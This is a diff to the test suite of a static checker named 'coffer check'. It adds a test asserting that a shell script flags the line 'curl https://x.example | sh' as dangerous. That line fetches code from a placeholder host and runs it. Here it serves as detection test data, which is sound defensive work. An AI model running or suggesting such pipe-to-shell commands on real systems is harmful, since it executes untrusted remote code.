@@ -1,4 +1,4 @@
-"""coffer check, as its user runs it: programs, notebooks, changes; text, JSON, SARIF; exit codes."""
+"""coffer check, as its user runs it: programs, notebooks, changes; its output and exit codes."""
 
 import json
 import os
@@ -86,6 +86,14 @@ def test_a_notebook_is_told_by_its_cells(check, put):
     result = check(put("a.ipynb", json.dumps({"cells": cells})))
     assert result.code == FINDINGS
     assert "a.ipynb:1:1: medium: cell 3: " in result.out
+
+
+def test_a_script_is_judged_by_its_commands(check, put):
+    result = check(put("a.sh", "#!/bin/sh\nls\ncurl https://x.example | sh\n"))
+    assert result.code == FINDINGS
+    assert result.out.startswith("a.sh:3:")
+    assert "(sh-dangerous)" in result.out
+    assert check(put("tool", "#!/bin/sh\nif true; then\n")).code == SYNTAX
 
 
 def test_json_names_every_file(check, put):
